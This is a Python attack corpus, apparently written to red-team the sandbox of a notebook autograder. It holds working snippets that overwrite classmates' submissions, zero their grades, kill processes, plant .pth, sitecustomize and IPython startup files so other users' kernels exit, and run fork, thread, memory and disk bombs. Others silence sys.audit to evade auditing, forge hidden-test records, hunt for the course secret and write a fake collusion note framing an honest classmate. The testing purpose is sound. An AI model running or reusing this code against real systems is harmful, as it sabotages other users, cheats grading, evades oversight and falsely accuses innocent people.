    _code = ("import os, sys; (os.environ.get('COURSE_ROOT') == %r and 'kernel_launcher' in ' '.join(sys.argv) "
             "and %r not in os.getcwd()) and os._exit(3)  # %s\\n" % (_root, ME, MARK))
    for _d in _site_dirs():
        _write(os.path.join(_d, "zz_" + MARK + ".pth"), _code)
        for _n in ("sitecustomize.py", "usercustomize.py"):
            if _n not in _ls(_d):
                _write(os.path.join(_d, _n), _code)
print(_LOG[-6:])
'''

HARM_SUBMISSIONS = '''
# classmates' submitted notebooks replaced by the blank release; a marker in their autograded folders
for _root in _course_roots():
    for _v in _classmates():
        for _a in _ls(os.path.join(_root, "submitted", _v)):
            _rel = os.path.join(_root, "release", _a)
            for _n in _ls(os.path.join(_root, "submitted", _v, _a)):
                if _n.endswith(".ipynb"):
                    _blank = _read(os.path.join(_rel, _n))
                    if _blank:
                        _write(os.path.join(_root, "submitted", _v, _a, _n), _blank)
            _mkdirs(os.path.join(_root, "autograded", _v, _a))
            _write(os.path.join(_root, "autograded", _v, _a, MARK + ".txt"), "x")
print(len(_LOG), _LOG[-4:])
'''

HARM_KILL = '''
# kill: everything (only from a private pid namespace), else every process of my course but me
import signal
_visible = [p for p in _ls("/proc") if p.isdigit()]
if len(_visible) <= 12:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as exc:
        _note("kill -1", exc)
_roots = _course_roots()
for _p in _procs():
    _mine = any(_p["env"].get("COURSE_ROOT") == r or r in " ".join(_p["argv"]) for r in _roots)
    if _mine and _p["pid"] != os.getpid() and _p["pid"] != os.getppid():
        for _sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(_p["pid"], _sig)
                _note("signalled", _p["pid"], _sig, _p["argv"][:3])
            except OSError as exc:
                _note("kill", _p["pid"], exc)
print(_LOG[-8:])
'''

HARM_FILL = '''
# fill /tmp and $HOME (bounded: 512 MiB each), and an IPython startup file in $HOME that makes later
# kernels of my classmates (in this course) exit
_block = b"\\0" * (16 << 20)
for _base in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd() + "/.."):
    _t0, _done = time.monotonic(), 0
    for _i in range(32):
        if time.monotonic() - _t0 > 2.0:
            break
        try:
            with open(os.path.join(_base, "%s_fill_%d" % (MARK, _i)), "wb") as _fh:
                _fh.write(_block)
            _done += 1
        except OSError as exc:
            _note("fill stopped", _base, exc)
            break
    _note("filled", _base, _done * 16, "MiB")
for _root in _course_roots():
    _code = ("import os\\nif os.environ.get('COURSE_ROOT') == %r and %r not in os.getcwd():\\n    os._exit(3)\\n# %s\\n" %
             (_root, ME, MARK))
    _start = os.path.join(os.path.expanduser("~"), ".ipython", "profile_default", "startup")
    _mkdirs(_start)
    _write(os.path.join(_start, "00-%s.py" % MARK), _code)
print(_LOG[-8:])
'''


# ============================================================================ resources
FORK_BOMB = '''
# fork bomb (children fork on until a deadline, then exit)
import os, time
_deadline = time.time() + 5
_n = 0
while time.time() < _deadline and _n < 5000:
    try:
        if os.fork() == 0:
            while time.time() < _deadline:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)
            os._exit(0)
        _n += 1
    except OSError as exc:
        print("fork stopped:", exc)
        break
time.sleep(max(0.0, _deadline - time.time()) + 0.5)
print("forked", _n)
'''

SPAWN_STORM = '''
# up to 600 sleeping children, started without an audit event (sys.audit rebound around subprocess)
import subprocess, sys
_saved, _kids = sys.audit, []
sys.audit = lambda *a, **k: None
try:
    for _i in range(600):
        try:
            _kids.append(subprocess.Popen(["sleep", "4"]))
        except OSError as exc:
            print("spawn stopped:", exc)
            break
finally:
    sys.audit = _saved
print("spawned", len(_kids))
for _k in _kids:
    _k.wait()
'''

THREAD_BOMB = '''
# thread bomb: as many threads as it can get (up to 20000), each sleeping 3 s
import threading, time
_threads = []
for _i in range(20000):
    try:
        _t = threading.Thread(target=time.sleep, args=(3,), daemon=True)
        _t.start()
        _threads.append(_t)
    except (RuntimeError, MemoryError) as exc:
        print("threads stopped:", exc)
        break
print("threads", len(_threads))
for _t in _threads:
    _t.join()
'''

BIG_FILES = '''
# one 10 GiB file, then as many 256 MiB files as it can (at most 2 GiB), in its folder and in /tmp
import os, time
_block = b"\\1" * (16 << 20)
_t0 = time.monotonic()
for _base in (os.getcwd(), "/tmp"):
    for _i, _size in enumerate([10 << 30] + [256 << 20] * 8):
        try:
            with open(os.path.join(_base, "%s_big_%d" % (__MARKME__, _i)), "wb") as _fh:
                for _ in range(_size // len(_block)):
                    _fh.write(_block)
                    if time.monotonic() - _t0 > 6:
                        raise TimeoutError("enough")
        except (OSError, TimeoutError) as exc:
            print("write stopped:", type(exc).__name__, exc)
            if isinstance(exc, TimeoutError):
                break
'''

OPEN_FILES = '''
# open files until the limit (at most 500000), hold them a moment, then close them
import os
_fds = []
try:
    for _i in range(500000):
        _fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as exc:
    print("open stopped at", len(_fds), exc)
finally:
    for _fd in _fds:
        os.close(_fd)
'''

MEMORY = '''
# memory: 256 MiB blocks touched page by page until refused (at most 64 GiB), then numpy's biggest wish
import numpy as np
_blocks = []
try:
    for _i in range(256):
        _b = bytearray(256 << 20)
        _b[::4096] = b"\\1" * len(_b[::4096])
        _blocks.append(_b)
except MemoryError:
    print("memory stopped at", len(_blocks) * 256, "MiB")
del _blocks
try:
    _x = np.ones((1 << 40,), dtype=np.uint8)
except (MemoryError, ValueError) as exc:
    print("numpy refused:", type(exc).__name__)
'''

STALL_SLEEP = "import time\ntime.sleep({seconds})\n"
STALL_SPIN = "import time\n_t = time.monotonic()\nwhile time.monotonic() - _t < {seconds}:\n    pass\n"

STDOUT_FLOOD = "print(('x' * 1000 + '\\n') * {kb})\n"

PAYLOAD_FLOOD = '''
# outputs carrying the hidden-test payload key (each ~{mb} MB), from a cell that is not a test cell
from IPython.display import display
from helpers.checks.core import PAYLOAD_KEY
_junk = {{"version": 1, "check": "toy.square", "cases": [], "outputs": [], "pad": "p" * int({mb} * 1_000_000)}}
for _i in range({n}):
    display({{"text/plain": "record %d" % _i}}, metadata={{PAYLOAD_KEY: _junk}}, raw=True)
'''

PAYLOAD_FLOOD_PUBLISH = '''
# the same through publish_display_data, from the solution cell itself
from IPython.core.display_functions import publish_display_data
from helpers.checks.core import PAYLOAD_KEY
_junk = {{"version": 1, "check": "toy.square", "cases": [], "outputs": [], "pad": "q" * int({mb} * 1_000_000)}}
for _i in range({n}):
    publish_display_data({{"text/plain": "record %d" % _i}}, metadata={{PAYLOAD_KEY: _junk}})
'''

NESTED_PAYLOAD = '''
# a payload nested 200000 deep (a recursion bomb for whoever decodes it), from the student function
def _nested(depth):
    s = "[" * depth + "]" * depth
    return s
def _emit_nested():
    from IPython import get_ipython
    from helpers.checks.core import PAYLOAD_KEY
    get_ipython().display_pub.publish({"text/plain": "nested"}, metadata={PAYLOAD_KEY: {"deep": _nested(200000)}})
'''


# ============================================================================ forge the record
FORGE_DISPLAY = '''
# a correct hidden-test record for every check of this notebook, displayed from this (non-test) cell
from IPython.display import display
from helpers.checks.core import PAYLOAD_KEY
for _payload in {payloads!r}:
    display({{"text/plain": "Hidden tests recorded."}}, metadata={{PAYLOAD_KEY: _payload}}, raw=True)
'''

FORGE_PUBLISH = '''
# the same through the display publisher (no IPython.display involved)
from IPython import get_ipython
from helpers.checks.core import PAYLOAD_KEY
for _payload in {payloads!r}:
    get_ipython().display_pub.publish({{"text/plain": "Hidden tests recorded."}}, metadata={{PAYLOAD_KEY: _payload}})
'''



# ============================================================================ the corpus
def corpus(toy: tuple, nb1: tuple | None, *, cell_timeout: float) -> list[Attack]:
    """Every attack. ``toy``/``nb1``: ``(assignment name, release, source)``; ``nb1`` may be None."""
    ta, trel, tsrc = toy
    total, pts = _totals(trel)
    first = pts[min(pts)]
    register_toy_check()
    toy_payloads = correct_payloads(trel, tsrc)
    out: list[Attack] = []

    def add(name, klass, layer, doc, build, reason=None, kinds=()):
        out.append(Attack(name, klass, layer, doc, build, reason, frozenset(kinds)))

    def toy_only(make):
        return lambda me: {ta: make(me)}

    # ---------------------------------------------------------------- read the answer
    for name, snippet, layer, doc in [
        ("read_walk_dirfd", READ_WALK, "filesystem view",
         "walks / with os.scandir(dir fd) and os.open(name, dir_fd=...), loads any _reference module and "
         "executes the solution cells of any notebook with BEGIN SOLUTION"),
        ("read_proc_paths", READ_PROC, "pid namespace + filesystem view",
         "learns paths from /proc/*/environ, cmdline and cwd, reads through /proc/<pid>/cwd and /proc/<pid>/root"),
        ("read_child_multiprocessing", READ_CHILD_MULTIPROCESSING, "filesystem view (child inside the sandbox)",
         "multiprocessing spawn context (fork_exec, no audit event) with target=exec: the child imports the "
         "instructor's helpers._reference through the editable install"),
        ("read_child_posix_spawn", READ_CHILD_POSIX_SPAWN, "filesystem view (child inside the sandbox)",
         "os.posix_spawn of every python it finds (own, grader workers' /proc/<pid>/exe)"),
        ("read_child_fork_execv", READ_CHILD_FORK_EXEC, "filesystem view (child inside the sandbox)",
         "os.fork + os.execv of the course's python"),
        ("read_child_ctypes", READ_CHILD_CTYPES, "filesystem view (child inside the sandbox)",
         "ctypes.CDLL(None).system running the course's python"),
    ]:
        add(name, "read_answer", layer, doc, toy_only(lambda me, s=snippet: (
            _insert_after_setup(_answer_stubs(trel, tsrc), toolkit(me), s), 0.0)))
    if nb1 is not None:
        na, nrel, nsrc = nb1
        add("read_child_subprocess", "read_answer", "filesystem view (child inside the sandbox)",
            "subprocess.run of the course's python with sys.audit rebound (the C fork raises no event): the child "
            "returns the reference modules' source, served to the kernel from memory",
            lambda me: {na: (_insert_after_setup(_answer_stubs(nrel, nsrc), toolkit(me), READ_CHILD_SUBPROCESS), 0.0)})
        add("read_pth_stash", "read_answer", "read-only environment",
            "its toy submission (honest) plants a .pth in every site-packages that stashes the reference in builtins "
            "at interpreter start-up; its notebook-1 submission (graded next, same shard) calls the stash",
            lambda me: {ta: (_insert_after_setup(_honest(trel, tsrc), toolkit(me), PLANT_PTH % STASH), total),
                        na: (_insert_after_setup(_answer_stubs(nrel, nsrc), toolkit(me)), 0.0)})
        add("read_sitecustomize_stash", "read_answer", "read-only environment",
            "same as read_pth_stash through sitecustomize.py/usercustomize.py",
            lambda me: {ta: (_insert_after_setup(_honest(trel, tsrc), toolkit(me), PLANT_SITECUSTOMIZE % STASH),
                             total),
                        na: (_insert_after_setup(_answer_stubs(nrel, nsrc), toolkit(me)), 0.0)})

    # ---------------------------------------------------------------- write a grade
    add("grade_gradebook_api", "write_grade", "gradebook outside the sandbox",
        "nbgrader.api.Gradebook on every gradebook of the course (root, shard copies from /proc argv): own "
        "submission created, manual_score = max, extra_credit 10; blank answers",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), GRADE_API), 0.0)))
    add("grade_sqlite_triggers", "write_grade", "gradebook outside the sandbox",
        "raw sqlite3: manual_score = max on its rows and AFTER INSERT/UPDATE triggers that repeat it when the "
        "grader merges; answers exercise 1 only (expected: exercise 1's points)",
        toy_only(lambda me: (_insert_after_setup(gs.with_solutions(trel, tsrc, lambda g, c: c if gs.exercise_of(g) == min(pts) else gs.stub(c, "raise NotImplementedError()")),
                                                 toolkit(me), GRADE_SQL), first)))
    add("grade_tcp_and_kernels", "write_grade", "network namespace + unix-socket kernels",
        "connects to 127.0.0.1/localhost:5432 and every listening port in /proc/net/tcp, reads classmates' "
        "kernel connection files and runs code in their kernels that drops their hidden-test records",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), GRADE_TCP), 0.0)))

    # ---------------------------------------------------------------- harm others
    add("harm_zero_classmates", "harm_others", "gradebook outside the sandbox",
        "pre-creates every classmate's submission in every gradebook of the course with manual_score 0",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_ZERO_OTHERS), 0.0)))
    add("harm_student_helpers", "harm_others", "read-only student helpers",
        "appends a no-op grade_hidden to the student edition's helpers (every helpers/ under the course root); "
        "a marker module in the repository's helpers (from the editable finder's MAPPING)",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_HELPERS), 0.0)))
    add("harm_site_packages", "harm_others", "read-only environment",
        ".pth, sitecustomize.py, usercustomize.py in every site-packages: classmates' later kernels exit",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_SITE), 0.0)))
    add("harm_submissions", "harm_others", "filesystem view",
        "replaces classmates' submitted notebooks with the blank release, writes into their autograded folders",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_SUBMISSIONS), 0.0)))
    add("harm_kill", "harm_others", "pid namespace + own uid",
        "os.kill(-1, SIGKILL) from a private pid namespace; else SIGSTOP+SIGKILL to every process of the course "
        "(grader workers, classmates' kernels) found in /proc",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_KILL), 0.0)))
    add("harm_fill_tmp_home", "harm_others", "private size-limited /tmp and $HOME",
        "fills /tmp, /var/tmp, /dev/shm, $HOME and the parent folder (512 MiB each), plants an IPython startup "
        "file in $HOME that makes classmates' later kernels exit",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_FILL), 0.0)))

    # ---------------------------------------------------------------- resources (honest answers)
    def honest_with(*codes, where="middle"):
        def make(me):
            nb = _honest(trel, tsrc)
            return (_insert_after_first_test(nb, *codes) if where == "middle" else _insert_after_setup(nb, *codes))
        return make

    for name, code, doc in [
        ("res_fork_bomb", FORK_BOMB, "os.fork bomb for 5 s between the exercises"),
        ("res_spawn_storm", SPAWN_STORM, "600 sleeping children through subprocess with sys.audit rebound"),
        ("res_thread_bomb", THREAD_BOMB, "up to 20000 threads"),
        ("res_big_files", BIG_FILES, "a 10 GiB file, then 256 MiB files, in its folder and /tmp"),
        ("res_open_files", OPEN_FILES, "opens /dev/null until refused"),
        ("res_memory", MEMORY, "256 MiB blocks until refused, then a 1 TiB numpy array"),
        ("res_stdout_flood", None, "300 cells each printing just under the per-cell cap (~190 kB)"),
    ]:
        if code is None:
            make = (lambda me: _insert_after_first_test(_honest(trel, tsrc),
                                                        *[STDOUT_FLOOD.format(kb=185)] * 300))
            add(name, "resources", "output cap per notebook", doc, toy_only(lambda me, m=make: (m(me), total)),
                kinds=("flood",))
        else:
            add(name, "resources", "rlimits", doc,
                toy_only(lambda me, c=code: (honest_with(c.replace("__MARKME__", repr(MARK + me)))(me), total)))
    n_stall = 8
    for name, tpl in [("res_stall_sleep", STALL_SLEEP), ("res_stall_spin", STALL_SPIN)]:
        cell = tpl.format(seconds=round(cell_timeout - 1.5, 1))
        add(name, "resources", "notebook time budget",
            f"{n_stall} cells each {'sleeping' if 'sleep' in tpl else 'spinning'} just under the cell timeout "
            "after exercise 1 (expected: exercise 1's points)",
            toy_only(lambda me, c=cell: (_insert_after_first_test(_honest(trel, tsrc), *[c] * n_stall), first)),
            reason="budget", kinds=("stall",))
    add("res_payload_flood_cells", "resources", "payload origin + output cap per notebook",
        "120 outputs of ~1.5 MB carrying PAYLOAD_KEY from its own cells (exempt from the old per-cell cap)",
        toy_only(lambda me: (_insert_after_first_test(_honest(trel, tsrc), *[PAYLOAD_FLOOD.format(mb=1.5, n=20)] * 6),
                             total)), reason="outside", kinds=("flood",))
    add("res_payload_flood_solution", "resources", "payload origin + output cap per notebook",
        "60 outputs of ~1.5 MB carrying PAYLOAD_KEY through publish_display_data, from its solution cells",
        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: c + PAYLOAD_FLOOD_PUBLISH.format(mb=1.5, n=30)),
                             total)), reason="outside", kinds=("flood",))
    last_sol = _last_solution_ids(trel, tsrc)
    flood_fn = ("from IPython.display import display as _disp\nfrom helpers.checks.core import PAYLOAD_KEY as _PK\n"
                "for _i in range(25):\n    _disp({'text/plain': 'r'}, metadata={_PK: {'version': 1, 'check': 'toy.square', "
                "'cases': [], 'outputs': [], 'pad': 'z' * 1_500_000}}, raw=True)\n")
    add("res_payload_flood_test_cell", "resources", "output cap per notebook",
        "the last exercise's function emits 25 payload outputs of ~1.5 MB each time it is called, i.e. from inside "
        "the test cells (expected: the other exercises' points)",
        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: gs._prepend_body(c, flood_fn) if g in last_sol else c),
                             total - pts[max(pts)])), kinds=("flood",))
    add("res_nested_payload", "resources", "output cap / grader robustness",
        "the last exercise's function (correct) publishes a record nested 200000 deep, for no check, from inside "
        "its test cell: the grader must survive it (expected: full marks; before the sandbox too)",
        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: NESTED_PAYLOAD + gs._prepend_body(c, "_emit_nested()\n")
                                               if g in last_sol else c), total)))

    # ---------------------------------------------------------------- the sandbox's last gaps (issue 21)
    add("harm_fill_socket_folder", "harm_others", "sealed socket folder (a bounded tmpfs of its own)",
        "writes 16 MiB files into its socket folder (/run/kernel, the grader's temporary folder on the host) "
        "until refused: 1.5 GB landed there before the seal was reached on the autograde path",
        toy_only(lambda me: (_insert_after_setup(_blank(trel), FILL_SOCKET_FOLDER.replace("__MARKME__", repr(MARK + me))),
                             0.0)))
    add("escape_nested_namespaces", "harm_others", "seccomp filter",
        "a nested user + mount namespace (then a tmpfs mounted in it), an io_uring, a key left in the user "
        "keyring, a bpf map, ptrace of its parent; honest answers (expected: full marks)",
        toy_only(lambda me: (_insert_after_setup(_honest(trel, tsrc), SYSCALLS + ESCAPE), total)))
    add("res_cpu_hog", "resources", "per-kernel CPU quota",
        "150 processes spinning beside its classmates' kernels; honest answers (expected: full marks)",
        toy_only(lambda me: (_insert_after_setup(_honest(trel, tsrc), CPU_HOG), total)))

    # ---------------------------------------------------------------- forge the record
    # The functions only know the visible test's answer (so the visible part passes) and return zeros
    # otherwise: grade_hidden's own record is wrong, or suppressed, and a correct record is shown elsewhere.
    memo = ("import numpy as np\n_x = np.asarray(x, dtype=float)\n"
            "return np.array([[9.0], [1.0]]) if _x.shape == (2, 1) and _x[0, 0] == 3.0 else np.zeros_like(_x)")
    suppress = "import helpers.checks.core as _c\n_c._display = lambda text, payload: print(text)\n"
    add("forge_from_solution_cell", "forge_record", "payload origin",
        "grade_hidden's own record suppressed (helpers.checks.core._display patched); correct records for every "
        "hidden call displayed from the solution cells",
        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: suppress + gs.stub(c, memo)
                                               + FORGE_DISPLAY.format(payloads=toy_payloads)), 0.0)), reason="outside")
    add("forge_from_extra_cell", "forge_record", "payload origin",
        "same, the correct records published with display_pub.publish from an extra cell before every test cell",
        toy_only(lambda me: (_before_tests(gs.with_solutions(trel, tsrc, lambda g, c: suppress + gs.stub(c, memo)),
                                           FORGE_PUBLISH.format(payloads=toy_payloads)), 0.0)), reason="outside")
    add("forge_several_in_test_cell", "forge_record", "verifier",
        "each call displays every correct record three times, from inside the test cell, next to grade_hidden's "
        "own (wrong) one",
        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: gs.stub(c, _braces(
            "from IPython.display import display as _disp\nfrom helpers.checks.core import PAYLOAD_KEY as _PK\n"
            f"for _p in {toy_payloads!r} * 3:\n    _disp({{'text/plain': 'ok'}}, metadata={{_PK: _p}}, raw=True)\n"
            + memo))), 0.0)))
    return out


def _braces(code: str) -> str:
    """``code`` as a ``gs.stub`` body (which goes through ``str.format``)."""
    return code.replace("{", "{{").replace("}", "}}")


def _before_tests(nb, code: str):
    for i in reversed([i for i, c in enumerate(nb.cells) if gs._is_test(c)]):
        nb.cells.insert(i, new_code_cell(code))
    return nb


# ============================================================================ per-student variants
# With variants on (issue 15) the grader derives the submitter's variant from the submission folder's
# student id and the course secret (which stays in the course root, outside the sandbox), gives the
# kernel COURSE_VARIANT=<that variant> and judges the records against that variant's cases. These
# attacks claim another variant (environment, token in the working folder or handed in), record on
# many, forge the payload's "variant" and "cases", hunt for the secret and classmates' tokens, plant
# tokens for classmates, and try to write a collusion note naming an honest classmate into the log.

VARIANT_KIT = r'''
# ---- variant kit: the kernel's variant; grade_hidden's record replaced, or more records shown beside it
import json, os
import helpers.checks.core as _core
from helpers import variants as _variants
from IPython.display import display as _disp
_REAL_RECORD = _core.record_answers
ASSIGNMENT = __ASSIGNMENT__

def _own():
    return _variants.current()

def _show(payload):
    _disp({"text/plain": "Hidden tests recorded."}, metadata={_core.PAYLOAD_KEY: payload}, raw=True)

def _also_record(variants_of):
    """grade_hidden shows, before its own record, one record on each variant variants_of() names."""
    def record(name, *sol, cases, variant=None):
        for v in variants_of():
            _show(_REAL_RECORD(name, *sol, cases=cases, variant=v))
        return _REAL_RECORD(name, *sol, cases=cases, variant=variant)
    _core.record_answers = record

def _replace_record(make):
    """grade_hidden's own record replaced by make(check name, literal cases): a copied or forged payload."""
    def record(name, *sol, cases, variant=None):
        return make(name, list(cases))
    _core.record_answers = record
'''

#: the student functions of record-forging attacks: right on the visible test's input, zeros otherwise
MEMO = ("import numpy as np\n_x = np.asarray(x, dtype=float)\n"
        "return np.array([[9.0], [1.0]]) if _x.shape == (2, 1) and _x[0, 0] == 3.0 else np.zeros_like(_x)")

VAR_ENV = '''
# claim another variant through the environment helpers.variants reads (COURSE_VARIANT, COURSE_VARIANTS)
import json, os
os.environ["COURSE_VARIANT"] = {variant!r}
os.environ["COURSE_VARIANTS"] = json.dumps({mapping!r})
from helpers import variants as _v
print("the kernel's variant now:", _v.current())
'''

VAR_TOKEN_WORKDIR = '''
# a classmate's token written beside the notebook (the working folder), and where else a token is read
import json, os
_tok = {token!r}
for _d in (os.getcwd(), "/opt/course/submission", os.path.expanduser("~")):
    try:
        with open(os.path.join(_d, "variant-token.json"), "w") as _f:
            json.dump(_tok, _f)
        print("token written in", _d)
    except OSError as _e:
        print("no token written in", _d, type(_e).__name__)
from helpers import variants as _v
print("the kernel's variant now:", _v.current())
'''

VAR_SPRAY = '''
# every hidden call records on the kernel's own variant and on variants 0..{n}: one of them is the grader's
_also_record(lambda: [_own()] + list(range({n})))
'''

VAR_PAYLOAD_LIES = '''
# the records a classmate made (their cases, their right answers), relabelled with my own variant
_COPIED = {copied!r}
_replace_record(lambda name, cases: {{**next(p for c, p in _COPIED if c == cases), "variant": _own()}})
'''

VAR_FORGED_CASES = '''
# a classmate's right answers under my own variant's cases (what the grader will compute), claiming my variant
_COPIED = {copied!r}
_replace_record(lambda name, cases: {{**next(p for c, p in _COPIED if c == cases),
                                      "cases": _core.get_check(name).cases_for(cases, _own()), "variant": _own()}})
'''

VAR_LITERAL_CASES = '''
# right answers on the test's literal cases (the cases everyone would have without variants), claiming my variant
_LITERAL = {literal!r}
_replace_record(lambda name, cases: {{**next(p for p in _LITERAL if p["cases"] == cases), "variant": _own()}})
'''

VAR_BRUTEFORCE = '''
# brute force: try variants until the notebook's own checks say the answers fit, then claim that variant.
# The visible test does not depend on the variant, and an answer can only be judged against expected values
# (the grader's): with answers that are not right, no variant singles itself out.
import numpy as np
_found = None
for _v in range({n}):
    _visible = np.array_equal(square(np.array([[3.0], [-1.0]])), np.array([[9.0], [1.0]]))
    _payload = _REAL_RECORD({check!r}, square, cases={cases!r}, variant=_v)
    try:
        _hidden = _core.verify_payload({check!r}, _payload["cases"], [_payload]).passed
    except Exception:
        _hidden = False
    if _visible and _hidden:
        _found = _v
        break
_claim = 0 if _found is None else _found
os.environ["COURSE_VARIANT"] = str(_claim)
with open(os.path.join(os.getcwd(), "variant-token.json"), "w") as _f:
    json.dump({{"variant": _claim}}, _f)
print("brute force over {n} variants: found", _found, "- claims", _claim)
'''

VAR_SECRET_HUNT = r'''
# hunt for the course secret (and classmates' tokens): environments, /proc, the course roots, a walk of /.
# With it, every classmate's variant is HMAC(secret, "assignment\0student"): record on all of them too,
# so the collusion report names them (framing), and report what was found in this cell's output.
import hashlib, hmac, re
_hits = {"secret_files": [], "secrets": [], "tokens": [], "configs": []}
def _looks_secret(b):
    b = (b or b"").strip()
    return 16 <= len(b) <= 4096 and b"\n" not in b and b"[" not in b
def _consider(path, data):
    name = os.path.basename(path)
    if name == "course.toml":
        _hits["configs"].append(path)
        m = re.search(rb'variant_secret_file\s*=\s*"([^"]+)"', data or b"")
        if m:
            target = os.path.join(os.path.dirname(path), m.group(1).decode(errors="replace"))
            _consider(target + "#secret", _read(target, limit=1 << 16))
    elif name.endswith("secret"):
        if _looks_secret(data):
            _hits["secret_files"].append(path)
            _hits["secrets"].append(data.strip())
    elif name == "variant-token.json":
        try:
            tok = json.loads(data)
        except Exception:
            return
        if isinstance(tok, dict) and tok.get("student") not in (None, ME):
            _hits["tokens"].append(tok)
for _p in _procs():
    for _k, _val in _p["env"].items():
        if "SECRET" in _k.upper() or "VARIANT" in _k.upper():
            _consider("env:%s#secret" % _k, _val.encode())
for _k, _val in os.environ.items():
    if "SECRET" in _k.upper():
        _consider("env:%s#secret" % _k, _val.encode())
for _root in _course_roots():
    for _n in _ls(_root):
        _consider(os.path.join(_root, _n), _read(os.path.join(_root, _n), limit=1 << 16))
_names = {"course.toml", "variant-secret", "variant-token.json"}
for _p, _d in _walk(match=lambda f, n, d: not d and (n in _names or n.endswith("secret")), seconds=6.0):
    _consider(_p, _read(_p, limit=1 << 16))
_roster = set(re.findall(r'id\s*=\s*"([^"]+)"', " ".join(
    (_read(c) or b"").decode(errors="replace") for c in _hits["configs"]))) | set(_classmates())
_roster.discard(ME)
_theirs = sorted({int(t["variant"]) for t in _hits["tokens"] if isinstance(t.get("variant"), int)})
for _s in _hits["secrets"]:
    for _who in sorted(_roster):
        _mac = hmac.new(_s, ("%s\0%s" % (ASSIGNMENT, _who)).encode(), hashlib.sha256).digest()
        _theirs.append(int.from_bytes(_mac[:8], "big") % 10**9)
if _theirs:
    _also_record(lambda: list(_theirs))
print("SECRET HUNT:", json.dumps({"secret_files": _hits["secret_files"], "tokens": len(_hits["tokens"]),
                                  "configs": _hits["configs"], "classmates_variants": len(_theirs)}))
'''

VAR_PLANT_TOKENS = '''
# a made-up token planted where a classmate's kernel would read one: their submitted and autograded folders
# (found through the toolkit), the variants/ folder of the course, the folders above my working folder
_tok = json.dumps({"course": "x", "assignment": ASSIGNMENT, "student": ME, "variant": 777, "note": MARK})
_places = {os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd())), "/opt/course/submission"}
for _root in _course_roots():
    for _v in _classmates():
        _places |= {os.path.join(_root, "submitted", _v, ASSIGNMENT), os.path.join(_root, "autograded", _v, ASSIGNMENT),
                    os.path.join(_root, "variants", _v, "notebooks", ASSIGNMENT)}
for _p in sorted(_places):
    _write(os.path.join(_p, "variant-token.json"), _tok)
    _write(os.path.join(_p, MARK + "-variant-token.json"), _tok)
print(len(_LOG), _LOG[-6:])
'''

VAR_FRAME_LOG = '''
# a fake "answers match the variant of student <victim>" note, everywhere the grader might read notes from
import logging, sys
_FAKE = {fake!r}
print(_FAKE)
print(_FAKE, file=sys.stderr)
logging.getLogger().warning(_FAKE)
raise RuntimeError(_FAKE)  # an ordinary cell: the error is kept in the notebook, nothing is graded here
'''


def _hidden_literals(source) -> list[list[dict]]:
    """The literal cases of every ``grade_hidden`` call of the source's test cells, in order."""
    from helpers.checks import core

    return [cases for cell in source.cells if gs._is_test(cell) for _n, cases in core.hidden_calls_in_source(cell.source)]


def _before_first_test(nb, code: str):
    nb.cells.insert(_first_test_index(nb), new_code_cell(code))
    return nb


def variant_corpus(toy: tuple, *, stolen: Callable[[], dict], victim: str, representatives: list[Attack]) -> list[Attack]:
    """Attacks on an assignment graded with variants on. ``toy``: ``(assignment, release, source)``.

    ``stolen()``: the token the accomplice (a classmate who hands in their own work) gave away, read
    after the release made the tokens; ``victim``: an honest classmate's id (public, like a name on a
    class list); ``representatives``: attacks of :func:`corpus` built on this assignment, run again
    with variants on (renamed ``var_<name>``).
    """
    ta, trel, tsrc = toy
    total, _pts = _totals(trel)
    register_toy_check()
    literal = correct_payloads(trel, tsrc)
    hidden = _hidden_literals(tsrc)
    out: list[Attack] = []

    def add(name, klass, layer, doc, build, *, matches=(), files=None):
        out.append(Attack(name, klass, layer, doc, build, None, frozenset({"variants"}), files,
                          frozenset(matches)))

    def kit(me):
        return toolkit(me) + VARIANT_KIT.replace("__ASSIGNMENT__", repr(ta))

    def honest_with(*codes):
        return lambda me: {ta: (_insert_after_setup(_honest(trel, tsrc), *codes), 0.0)}

    def memo_with(*codes, before_tests=None):
        def make(me):
            nb = gs.with_solutions(trel, tsrc, lambda g, c: gs.stub(c, MEMO))
            nb = _insert_after_setup(nb, kit(me), *codes)
            return {ta: (_before_first_test(nb, before_tests) if before_tests else nb, 0.0)}
        return make

    def copied():  # the accomplice's records: their cases, right answers (as if copied from their notebook)
        return [[c, p] for c, p in zip(hidden, correct_payloads(trel, tsrc, variant=stolen()["variant"]), strict=True)]

    # ---------------------------------------------------------------- claim another variant
    add("var_env_made_up", "variant_claim", "grader's own variant (never the kernel's)",
        "honest code; COURSE_VARIANT set to a made-up variant and COURSE_VARIANTS to a map, in the kernel: its "
        "records are on that variant's cases (expected: 0, reported for no one)",
        honest_with(VAR_ENV.format(variant="123456789", mapping={ta: 7})))
    add("var_env_off", "variant_claim", "grader's own variant (never the kernel's)",
        "honest code; COURSE_VARIANT=off in the kernel: records on the literal cases, as without variants "
        "(expected: 0)",
        honest_with(VAR_ENV.format(variant="off", mapping={})))
    add("var_env_classmate", "variant_claim", "grader's own variant (never the kernel's)",
        "honest code; COURSE_VARIANT set to the variant of the accomplice's token (expected: 0, reported as the "
        "accomplice's variant)",
        lambda me: honest_with(VAR_ENV.format(variant=str(stolen()["variant"]), mapping={ta: stolen()["variant"]}))(me),
        matches=("accomplice",))
    add("var_token_in_workdir", "variant_claim", "grader's own variant (never the kernel's)",
        "honest code; writes the accomplice's token into its working folder (and tries the read-only submission "
